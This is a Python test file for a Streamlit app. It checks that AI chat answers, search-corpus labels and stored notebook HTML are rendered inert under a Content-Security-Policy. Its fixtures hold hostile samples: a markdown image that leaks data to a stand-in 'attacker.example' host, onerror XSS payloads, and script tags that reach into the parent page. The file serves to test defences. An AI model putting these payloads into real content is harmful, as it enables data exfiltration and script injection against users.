"""What the notebooks, the corpus or the model wrote reaches the page inert."""

from __future__ import annotations

from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from dagma.lib.inert_html import CSP, inert_markdown
from tests.app._support import APP
from tests.notebooks.test_inert_html import HOSTILE, active_parts

LEAK = "![x](http://attacker.example/leak?q=secret)"
ANSWER = f"Catch it with **try** [1]. {LEAK} <img src=http://attacker.example/i.png> <b>bold</b>"


def rendered(markdown: str) -> str:
    """The HTML a CommonMark renderer with raw HTML on (the worst case) makes of `markdown`."""
    return MarkdownIt("commonmark", {"html": True}).render(markdown)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    monkeypatch.setenv("DAGMA_HOME", str(home))
    for name in ("MLFLOW_TRACKING_URI", "DAGSTER_HOME", "QDRANT_URL", "DAGMA_QDRANT_PATH"):
        monkeypatch.delenv(name, raising=False)
    return home


def open_page(name: str, **state: object) -> AppTest:
    app = AppTest.from_file(str(APP), default_timeout=120).run()
    for key, value in state.items():
        app.session_state[key] = value
    app.switch_page(f"pages/{name}.py").run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def test_inert_markdown_keeps_text_links_and_emphasis_but_no_image_or_html():
    assert "<img" in rendered(ANSWER) and "<b>" in rendered(ANSWER)  # what it guards against
    html = rendered(inert_markdown(ANSWER))
    assert "<img" not in html and "<b>" not in html
    assert "<strong>try</strong>" in html and "[1]" in html and "&lt;b&gt;bold" in html
    assert "x &lt; 3" in rendered(inert_markdown("x < 3"))
    escaped = rendered(inert_markdown("\\" + LEAK + " <!-- c --> <?p?> </b>"))
    assert "<img" not in escaped and "<!--" not in escaped and "</b>" not in escaped


def test_a_chat_answer_with_an_image_and_html_renders_neither(home: Path):
    source = {"rank": 1, "source": LEAK, "score": 0.5, "snippet": "<img src=x onerror=alert(1)>"}
    turn = {"question": "How? <b>now</b>", "answer": ANSWER, "sources": [source]}
    app = open_page("chat", chat_history=[turn])
    user, assistant = app.chat_message
    for markdown in (user.markdown[0].value, assistant.markdown[0].value):
        html = rendered(markdown)
        assert "<img" not in html and "<b>" not in html, markdown
    assert "<strong>try</strong>" in rendered(assistant.markdown[0].value)
    sources = assistant.table[0].value
    for cell in (sources["source"].iloc[0], sources["snippet"].iloc[0]):
        assert "<img" not in rendered(cell), cell


def test_search_labels_from_the_corpus_show_no_image(home: Path):
    from dagma.lib.embeddings import get_embedder
    from dagma.lib.vectors.contract import point_id
    from dagma.settings import get_settings

    settings = get_settings()
    embedder = get_embedder()
    text = "Catch an exception with try and except."
    payload = {"source": f"pydoc:{LEAK}", "title": "<img src=x onerror=alert(1)>", "text": text}
    settings.open_vector_store().publish(
        settings.dagma_collection, [point_id("a")], embedder.embed([text]), [payload]
    )
    app = open_page("search")
    app.text_input[0].set_value("catch an exception").run()
    assert not app.exception, [e.value for e in app.exception]
    (hit,) = app.expander
    assert "pydoc:" in hit.label and "<img" in rendered(LEAK)
    assert "<img" not in rendered(hit.label), hit.label
    assert hit.text[0].value == text


def test_the_notebooks_page_shows_an_old_hostile_copy_inert(home: Path):
    folder = home / "runs" / "run-1" / "hostile"
    folder.mkdir(parents=True)
    legacy = (
        '<!DOCTYPE html><html><head><script src="https://cdn.example/require.js"></script>'
        f"<style>.x {{ color: blue }}</style></head><body><main>{HOSTILE}<p>kept</p></main>"
        "<script>window.parent.document.title = 'ran'</script></body></html>"
    )
    (folder / "hostile.html").write_text(legacy)
    app = open_page("notebooks")
    (frame,) = app.get("iframe")
    shown = frame.proto.srcdoc
    assert active_parts(legacy) and active_parts(shown) == []
    assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in shown
    assert "script-src" not in CSP and "default-src 'none'" in CSP  # so no script may run
    assert "<p>kept</p>" in shown and ".x { color: blue }" in shown
